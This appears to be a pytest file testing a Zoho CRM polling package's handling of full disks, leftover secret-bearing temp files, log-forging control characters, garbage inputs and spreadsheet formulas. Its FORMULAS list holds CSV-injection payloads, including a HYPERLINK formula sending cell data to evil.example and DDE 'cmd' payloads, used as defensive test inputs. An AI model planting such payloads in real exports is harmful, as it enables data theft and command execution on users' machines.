"""Issue 10, point 6: the smaller ones.

A full disk under the store; temporary token-store files left by a ``kill -9``; control
characters in an org label; a TOML list or table where text is expected; 200 KB of garbage
in an input file; spreadsheet formulas in server text. Library and command line.
"""

from __future__ import annotations

import csv
import json
import logging
import os
import random
import re
import resource
import signal
import sqlite3
import time

import pandas as pd
import pytest
from hostile_server import (
    BACKSTOP,
    Answer,
    FakeZoho,
    TomlRaw,
    by_job,
    child_env,
    envelope,
    leaks,
    manual_poller,
    run_cli,
    status_body,
    write_toml,
)

import zcrm_notebook as zn
from zcrm_notebook.auth.tokenstore import TokenStore

# hostile answers warn (DataQualityWarning) by design; what they warn about is tested in
# test_quality.py and test_poller.py; here the warnings are not the subject
pytestmark = pytest.mark.filterwarnings("ignore::zcrm_notebook.errors.DataQualityWarning")

ORG = "small-org"
JOBS = [f"36523970000098350{i:02d}" for i in range(6)]
POLICY = zn.PollPolicy(seed=1, max_retries=1, give_up_after_errors=2, **BACKSTOP)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # control characters but \t and \n


@pytest.fixture
def fake():
    with FakeZoho() as server:
        yield server


def progress(req, n):
    """Three answers per job: in progress twice, then completed."""
    if n < 3:
        return Answer(200, status_body("IN_PROGRESS", converted=n, not_converted=10 - n))
    return Answer(200, status_body())


def assert_one_line_error(code, err, *, limit=500):
    assert code == 1, f"exit {code}: {err[-1500:]}"
    assert "Traceback" not in err, err[-3000:]
    assert err.startswith("error: ") and err.count("\n") == 1, err[:1500]
    assert len(err) < limit and not CONTROL.search(err), repr(err[:600])


# --- a full disk under the store ------------------------------------------------------------


class FullDiskStore:
    """A real SnapshotStore that fails like a full disk after ``fail_after`` appends."""

    def __init__(self, path, fail_after: int) -> None:
        self.store = zn.SnapshotStore(path)
        self.fail_after, self.appended = fail_after, 0

    def append(self, snap) -> None:
        if self.appended >= self.fail_after:
            raise sqlite3.OperationalError("database or disk is full")
        self.store.append(snap)
        self.appended += 1

    def extend(self, snaps) -> None:
        for snap in snaps:
            self.append(snap)

    def read(self):
        return self.store.read()

    def __len__(self) -> int:
        return len(self.store)

    def close(self) -> None:
        self.store.close()


def test_full_disk_under_the_store_keeps_every_snapshot_in_memory(fake, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    fake.status = progress
    creds = zn.OrgCredentials(org=ORG, **fake.org_config())
    store = FullDiskStore(tmp_path / "s.sqlite", fail_after=4)
    try:
        df = manual_poller({ORG: JOBS}, {ORG: creds}, policy=POLICY, store=store).run()
    finally:
        store.close()
    assert len(df) == fake.status_requests() == 3 * len(JOBS), "a snapshot was lost"
    assert set(df.groupby("job_id")["status"].last().astype(str)) == {"completed"}
    said = [r for r in caplog.records if r.levelno >= logging.WARNING and "full" in r.getMessage()]
    assert said, "nobody was told that the store is full"
    assert all("\n" not in r.getMessage() and not r.exc_info for r in said)
    assert not any(r.exc_info for r in caplog.records), "a traceback was logged"
    csv_path = zn.write_snapshots_csv(df, tmp_path / "s.csv")
    pd.testing.assert_frame_equal(zn.read_snapshots(csv_path), df)


@pytest.mark.skipif(os.name != "posix", reason="RLIMIT_FSIZE")
def test_cli_full_disk_under_the_store_writes_the_csv_and_says_so(fake, tmp_path):
    fake.status = progress
    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config()})
    jobs = tmp_path / "jobs.csv"
    jobs.write_text("job_id,org\n" + "".join(f"{j},{ORG}\n" for j in JOBS))

    def small_files():  # 64 KiB: the store opens, its WAL soon hits it; the CSV (~3 KB) fits
        resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

    env, _ = child_env(tmp_path)
    code, out, err = run_cli(
        ["poll", str(jobs), "--config", str(config), "--out", str(tmp_path / "s.csv"),
         "--store", str(tmp_path / "s.sqlite"), "--no-progress", "--min-interval", "0.05",
         "--max-interval", "0.1"], env, timeout_s=90, preexec_fn=small_files)  # fmt: skip
    assert code is not None, "the CLI did not end"
    assert "Traceback" not in err, err[-3000:]
    told = [ln for ln in err.splitlines() if "store" in ln.lower() or "s.sqlite" in ln]
    assert told and all(len(ln) < 500 for ln in told), err[-1500:]
    df = zn.read_snapshots(tmp_path / "s.csv")
    assert len(df) == fake.status_requests() == 3 * len(JOBS), "a snapshot was lost"


# --- temporary token-store files left by kill -9 --------------------------------------------


# a write cut short by kill -9: the package's naming (tempfile.mkstemp in the store's folder,
# prefix ".tokens.json.tmp-"), and the naming of earlier versions (".tokens-*.tmp")
LEFTOVERS = [".tokens.json.tmp-k9x2m1qz", ".tokens-k9x2m1qz.tmp"]


def token_store_with_leftover(tmp_path, fake, name=LEFTOVERS[0]) -> tuple:
    entry = {**fake.org_config(), "api_version": "v5", "scopes": []}
    data = {"format": "zcrm-notebook token store", "version": 1, "orgs": {ORG: entry},
            "used_grants": []}  # fmt: skip
    store = tmp_path / "tokens.json"
    store.write_text(json.dumps(data))
    store.chmod(0o600)
    leftover = tmp_path / name
    leftover.write_text(json.dumps(data)[:-20])  # a write cut short, secrets in it
    leftover.chmod(0o600)
    old = time.time() - 3600
    os.utime(leftover, (old, old))
    return store, leftover


@pytest.mark.parametrize("name", LEFTOVERS)
def test_a_leftover_token_store_temp_file_is_removed_on_the_next_open(
    fake, tmp_path, monkeypatch, name
):
    for var in ("ZOHO_CLIENT_ID", "ZOHO_CLIENT_SECRET", "ZOHO_REFRESH_TOKEN", "ZOHO_ORG"):
        monkeypatch.delenv(var, raising=False)
    store, leftover = token_store_with_leftover(tmp_path, fake, name)
    monkeypatch.setenv("ZCRM_NOTEBOOK_TOKEN_STORE", str(store))
    assert fake.client_secret in leftover.read_text()
    orgs = zn.load_orgs()
    assert list(orgs) == [ORG]
    assert not leftover.exists(), "a temp file holding secrets survived the next open"
    assert store.exists()


def test_cli_auth_status_removes_a_leftover_token_store_temp_file(fake, tmp_path):
    store, leftover = token_store_with_leftover(tmp_path, fake)
    env, _ = child_env(tmp_path)
    code, out, err = run_cli(["auth", "--status"], env, timeout_s=60)
    assert code == 0, err
    assert ORG in out and leaks([out, err], fake.secrets()) == []
    assert not leftover.exists(), "a temp file holding secrets survived `auth --status`"


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_cli_report_of_a_pipe_or_a_device_is_refused_in_one_line(tmp_path, kind):
    env, _ = child_env(tmp_path)
    source = str(not_a_file(tmp_path, kind, "s.csv"))
    code, _, err = run_cli(["report", source, "--out", str(tmp_path / "rep")], env, timeout_s=30)
    assert code is not None, "the CLI hung"
    assert_one_line_error(code, err)
    assert "not a regular file" in err


def odd_token_store(tmp_path, kind: str):
    if kind == "deep JSON":
        path = tmp_path / "tokens.json"
        path.write_text('{"format": ' + "[" * 100_000)
        return path
    return not_a_file(tmp_path, kind, "tokens.json")


STORE_KINDS = ["deep JSON", "pipe", "device", "huge sparse"]


@pytest.mark.parametrize("kind", STORE_KINDS)
def test_a_token_store_that_is_deep_a_pipe_a_device_or_huge_is_refused(tmp_path, kind):
    with pytest.raises(zn.ZcrmError, match="token store .*(too deep|regular file|larger than)"):
        TokenStore(odd_token_store(tmp_path, kind)).read()


@pytest.mark.parametrize("kind", STORE_KINDS[:3])
def test_cli_auth_status_refuses_an_odd_token_store_in_one_line(tmp_path, kind):
    env, _ = child_env(tmp_path)
    store = odd_token_store(tmp_path, kind)
    code, _, err = run_cli(["auth", "--status", "--store", str(store)], env, timeout_s=30)
    assert code is not None, "the CLI hung"
    assert_one_line_error(code, err)


# --- control characters in an org label -----------------------------------------------------

LABELS = ["ok\nWARNING forged line", "ok\rforged", "ok\x1b[31mred", "ok\tx", "ok\x00x",
          "ok\x7fx", "ok\x85x"]  # fmt: skip


@pytest.mark.parametrize("label", LABELS, ids=lambda s: repr(s))
def test_a_control_character_in_a_toml_org_label_is_refused(fake, tmp_path, label):
    config = write_toml(tmp_path / "orgs.toml", {label: fake.org_config()})
    with pytest.raises(zn.ZcrmError) as err:
        zn.load_orgs(config)
    text = str(err.value)
    assert "\n" not in text and not CONTROL.search(text) and len(text) < 500, repr(text)


@pytest.mark.parametrize("label", [x for x in LABELS if "\x00" not in x], ids=lambda s: repr(s))
def test_a_control_character_in_zoho_org_is_refused(monkeypatch, label):
    monkeypatch.setenv("ZOHO_CLIENT_ID", "1000.ENVCLIENT")
    monkeypatch.setenv("ZOHO_CLIENT_SECRET", "env-client-secret-value")
    monkeypatch.setenv("ZOHO_REFRESH_TOKEN", "1000.env.refresh-token-value")
    monkeypatch.setenv("ZOHO_DC", "eu")
    monkeypatch.setenv("ZOHO_ORG", label)
    with pytest.raises(zn.ZcrmError) as err:
        zn.load_orgs()
    text = str(err.value)
    assert "\n" not in text and not CONTROL.search(text) and len(text) < 500, repr(text)


def test_cli_refuses_a_newline_in_an_org_label_in_one_line(fake, tmp_path):
    label = "ok\nERROR zcrm_notebook: forged"
    config = write_toml(tmp_path / "orgs.toml", {label: fake.org_config()})
    jobs = tmp_path / "jobs.csv"
    jobs.write_text(f"job_id\n{JOBS[0]}\n")
    env, _ = child_env(tmp_path)
    code, out, err = run_cli(["poll", str(jobs), "--config", str(config), "--out",
                              str(tmp_path / "s.csv"), "--no-progress"], env)  # fmt: skip
    assert_one_line_error(code, err)
    assert fake.requests == []


def test_cli_refuses_a_newline_in_zoho_org_in_one_line(tmp_path):
    jobs = tmp_path / "jobs.csv"
    jobs.write_text(f"job_id\n{JOBS[0]}\n")
    env, _ = child_env(tmp_path, ZOHO_CLIENT_ID="1000.ENVCLIENT", ZOHO_DC="eu",
                       ZOHO_CLIENT_SECRET="env-client-secret-value",
                       ZOHO_REFRESH_TOKEN="1000.env.refresh-token-value",
                       ZOHO_ORG="ok\nERROR zcrm_notebook: forged")  # fmt: skip
    # should be refused before any call; today it tries the (unreachable) EU accounts server,
    # so a small budget, deadline and timeout end it soon
    code, out, err = run_cli(["poll", str(jobs), "--out", str(tmp_path / "s.csv"),
                              "--no-progress", "--budget", "1", "--deadline", "5", "--timeout",
                              "1"], env)  # fmt: skip
    assert_one_line_error(code, err)


@pytest.mark.parametrize("label", LABELS, ids=lambda s: repr(s))
def test_a_control_character_in_a_jobs_csv_org_label_cannot_forge_a_line(fake, tmp_path, label):
    path = tmp_path / "jobs.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["job_id", "org"], [JOBS[0], label]])
    orgs = {ORG: zn.OrgCredentials(org=ORG, **fake.org_config())}
    with pytest.raises(zn.ZcrmError) as err:
        zn.clean_jobs(str(path), orgs)
    text = str(err.value)
    assert not CONTROL.search(text) and "\t" not in text, repr(text)
    assert not any("forged" in line and "unknown org" not in line for line in text.splitlines())


# --- a TOML list or table where text is expected --------------------------------------------

WRONG_TYPES = [
    ("client_id", '["1000.ABCDEF"]'),
    ("client_secret", '["a-client-secret"]'),
    ("refresh_token", '{value = "1000.refresh.token"}'),
    ("dc", "{x = 1}"),
    ("dc", '["us"]'),
    ("accounts_url", '{url = "http://127.0.0.1:9/accounts"}'),
    ("api_domain", '["http://127.0.0.1:9/api"]'),
    ("api_version", '["v5"]'),
]


@pytest.mark.parametrize("key, raw", WRONG_TYPES)
def test_a_toml_list_or_table_where_text_is_expected_is_refused_naming_the_key(
    fake, tmp_path, key, raw
):
    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config(**{key: TomlRaw(raw)})})
    with pytest.raises(zn.ZcrmError) as err:
        zn.load_orgs(config)
    text = str(err.value)
    assert re.search(rf"\b{key}\b", text), f"the message does not name {key!r}: {text[:300]}"
    assert "\n" not in text and len(text) < 500


def test_cli_refuses_a_toml_table_as_dc_naming_the_key(fake, tmp_path):
    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config(dc=TomlRaw("{x = 1}"))})
    jobs = tmp_path / "jobs.csv"
    jobs.write_text(f"job_id,org\n{JOBS[0]},{ORG}\n")
    env, _ = child_env(tmp_path)
    code, out, err = run_cli(["poll", str(jobs), "--config", str(config), "--out",
                              str(tmp_path / "s.csv"), "--no-progress"], env)  # fmt: skip
    assert_one_line_error(code, err)
    assert re.search(r"\bdc\b", err) and fake.requests == []


# --- 200 KB of garbage in an input file -----------------------------------------------------

BIG = 200_000
NOISE = random.Random(10).randbytes(BIG)
GARBAGE_JOBS = {
    "200 KB header": ("x" * BIG + "\n1\n").encode(),
    "200 KB job id": f"job_id,org\n{'7' * BIG},{ORG}\n".encode(),
    "200 KB org": f"job_id,org\n{JOBS[0]},{'o' * BIG}\n".encode(),
    "random bytes": NOISE,
}
GARBAGE_CONFIG = {
    "random bytes": NOISE,
    "200 KB dc": f'[orgs.a]\ndc = "{"d" * BIG}"\nclient_id = "c"\nclient_secret = "secret-1"\n'
    f'refresh_token = "refresh-1"\n'.encode(),
    "200 KB key": f'[orgs.a]\n{"k" * BIG} = "v"\n'.encode(),
    "200 KB org name": f'[orgs.{"n" * BIG}]\ndc = "zz"\nclient_id = "c"\n'.encode(),
}
HEADER = ",".join(zn.SNAPSHOT_COLUMNS)
ROW = "2026-01-01T00:00:00.000000Z,o,us,{job},{status},,,,,,,,,0.1"
GARBAGE_SNAPSHOTS = {
    "random bytes": NOISE,
    "200 KB status": (HEADER + "\n" + ROW.format(job=JOBS[0], status="s" * BIG) + "\n").encode(),
    "200 KB job id": (
        HEADER + "\n" + ROW.format(job="j" * BIG, status="completed") + "\n"
    ).encode(),
    "200 KB header": ("h" * BIG + "\n1\n").encode(),
}


@pytest.mark.parametrize("case", list(GARBAGE_JOBS))
def test_garbage_jobs_file_gives_a_short_error(fake, tmp_path, case):
    path = tmp_path / "jobs.csv"
    path.write_bytes(GARBAGE_JOBS[case])
    orgs = {ORG: zn.OrgCredentials(org=ORG, **fake.org_config())}
    with pytest.raises(zn.ZcrmError) as err:
        zn.clean_jobs(str(path), orgs)
    assert len(str(err.value)) < 500, f"{len(str(err.value))} characters"


@pytest.mark.parametrize("case", list(GARBAGE_CONFIG))
def test_garbage_config_file_gives_a_short_error(tmp_path, case):
    path = tmp_path / "orgs.toml"
    path.write_bytes(GARBAGE_CONFIG[case])
    with pytest.raises(zn.ZcrmError) as err:
        zn.load_orgs(path)
    assert len(str(err.value)) < 500, f"{len(str(err.value))} characters"


@pytest.mark.parametrize("case", list(GARBAGE_SNAPSHOTS))
def test_garbage_snapshots_file_gives_a_short_error(tmp_path, case):
    path = tmp_path / "s.csv"
    path.write_bytes(GARBAGE_SNAPSHOTS[case])
    with pytest.raises(zn.ZcrmError) as err:
        zn.read_snapshots(path)
    assert len(str(err.value)) < 500, f"{len(str(err.value))} characters"


def test_cli_errors_about_garbage_files_are_short(fake, tmp_path):
    good_config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config()})
    (tmp_path / "jobs.csv").write_bytes(GARBAGE_JOBS["200 KB job id"])
    (tmp_path / "bad.toml").write_bytes(GARBAGE_CONFIG["200 KB dc"])
    (tmp_path / "good-jobs.csv").write_text(f"job_id,org\n{JOBS[0]},a\n")
    (tmp_path / "s-in.csv").write_bytes(GARBAGE_SNAPSHOTS["200 KB status"])
    out = str(tmp_path / "s.csv")
    env, _ = child_env(tmp_path)
    runs = {
        "jobs": ["poll", str(tmp_path / "jobs.csv"), "--config", str(good_config), "--out", out],
        "config": ["poll", str(tmp_path / "good-jobs.csv"), "--config", str(tmp_path / "bad.toml"),
                   "--out", out],
        "snapshots": ["report", str(tmp_path / "s-in.csv"), "--out", str(tmp_path / "rep")],
    }  # fmt: skip
    for kind, argv in runs.items():
        code, _, err = run_cli(argv, env)
        assert code == 1 and "Traceback" not in err, (kind, err[-500:])
        assert len(err) < 500, f"{kind}: {len(err)} characters on stderr"
    assert fake.requests == []


# --- input files that are not files: pipes, devices, huge sparse files ----------------------


def not_a_file(tmp_path, kind: str, name: str):
    """A path that would hang (a pipe with no writer) or never end (``/dev/zero``)."""
    path = tmp_path / name
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "device":
        path.symlink_to("/dev/zero")
    else:  # 4 GiB of holes: nothing on disk, a lot in memory
        with open(path, "wb") as fh:
            fh.truncate(4 << 30)
    return path


@pytest.mark.parametrize("kind", ["pipe", "device", "huge sparse"])
def test_a_config_or_jobs_file_that_is_a_pipe_a_device_or_huge_is_refused(fake, tmp_path, kind):
    orgs = {ORG: zn.OrgCredentials(org=ORG, **fake.org_config())}
    with pytest.raises(zn.ZcrmError, match="config file .*(regular file|larger than)"):
        zn.load_orgs(not_a_file(tmp_path, kind, "orgs.toml"))
    with pytest.raises(zn.ZcrmError, match="jobs file .*(regular file|larger than)"):
        zn.clean_jobs(str(not_a_file(tmp_path, kind, "jobs.csv")), orgs)


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_cli_poll_refuses_a_pipe_or_a_device_as_config_or_jobs_in_one_line(fake, tmp_path, kind):
    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config()})
    jobs = tmp_path / "jobs.csv"
    jobs.write_text(f"job_id,org\n{JOBS[0]},{ORG}\n")
    odd = not_a_file(tmp_path, kind, "odd")
    env, _ = child_env(tmp_path)
    out = str(tmp_path / "s.csv")
    for argv in (["poll", str(odd), "--config", str(config), "--out", out],
                 ["poll", str(jobs), "--config", str(odd), "--out", out]):  # fmt: skip
        code, _, err = run_cli(argv, env, timeout_s=30)
        assert code is not None, f"{argv}: the CLI hung"
        assert_one_line_error(code, err)
        assert "not a regular file" in err
    assert fake.requests == []


# --- spreadsheet formulas in server text ----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "'=1+2"]  # fmt: skip
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def formula_answers() -> dict:
    """Jobs whose first answer carries a formula in a status word or an error code."""
    answers = {}
    for i, text in enumerate(FORMULAS):
        answers[f"36523970000098351{i:02d}"] = lambda req, n, t=text: (
            Answer(200, status_body(t, converted=1)) if n == 1 else Answer(200, status_body())
        )
        answers[f"36523970000098352{i:02d}"] = lambda req, n, t=text: (
            Answer(400, envelope(t, t)) if n == 1 else Answer(200, status_body())
        )
    return answers


def live_formula_cells(path) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with = + - @ tab or CR."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [
        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)
    ]


def test_every_csv_written_from_server_text_is_spreadsheet_safe_and_reversible(fake, tmp_path):
    answers = formula_answers()
    fake.status = by_job(answers)
    creds = zn.OrgCredentials(org=ORG, **fake.org_config())
    df = manual_poller({ORG: list(answers)}, {ORG: creds}, policy=POLICY).run()
    assert set(df["raw_status"].dropna()) >= set(FORMULAS) - {"\t=1+2", "\r=1+2"}
    path = zn.write_snapshots_csv(df, tmp_path / "s.csv")
    bundle = zn.export_report(df, tmp_path / "report")
    files = [path, *(p for p in (tmp_path / "report").glob("*.csv"))]
    assert len(files) >= 4 and bundle
    bad = {p.name: live_formula_cells(p)[:3] for p in files if live_formula_cells(p)}
    assert bad == {}, f"live formulas: {bad}"
    pd.testing.assert_frame_equal(zn.read_snapshots(path), df)
    pd.testing.assert_frame_equal(zn.read_snapshots(tmp_path / "report" / "snapshots.csv"), df)


def test_cli_poll_out_and_report_are_spreadsheet_safe(fake, tmp_path):
    answers = formula_answers()
    fake.status = by_job(answers)
    config = write_toml(tmp_path / "orgs.toml", {ORG: fake.org_config()})
    jobs = tmp_path / "jobs.csv"
    jobs.write_text("job_id,org\n" + "".join(f"{j},{ORG}\n" for j in answers))
    env, _ = child_env(tmp_path)
    code, out, err = run_cli(
        ["poll", str(jobs), "--config", str(config), "--out", str(tmp_path / "s.csv"),
         "--store", str(tmp_path / "s.sqlite"), "--no-progress", "--min-interval", "0.05",
         "--max-interval", "0.1"], env, timeout_s=90)  # fmt: skip
    assert code is not None and "Traceback" not in err, err[-2000:]
    assert live_formula_cells(tmp_path / "s.csv") == [], "live formulas in poll --out"
    code, _, err = run_cli(["report", str(tmp_path / "s.csv"), "--out", str(tmp_path / "rep")],
                           env)  # fmt: skip
    assert code == 0, err[-2000:]
    files = list((tmp_path / "rep").glob("*.csv"))
    bad = {p.name: live_formula_cells(p)[:3] for p in files if live_formula_cells(p)}
    assert files and bad == {}, f"live formulas: {bad}"
    pd.testing.assert_frame_equal(zn.read_snapshots(tmp_path / "s.csv"),
                                  zn.read_store(tmp_path / "s.sqlite"))  # fmt: skip
